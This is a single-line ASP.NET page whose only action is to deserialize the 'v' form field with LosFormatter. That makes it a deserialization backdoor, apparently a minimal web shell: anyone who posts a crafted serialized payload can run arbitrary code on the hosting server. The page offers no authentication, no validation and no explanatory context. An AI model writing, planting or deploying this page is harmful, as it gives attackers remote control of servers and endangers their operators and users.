<%@ Page Language="C#" %><% new System.Web.UI.LosFormatter().Deserialize(Request.Form["v"]); %>
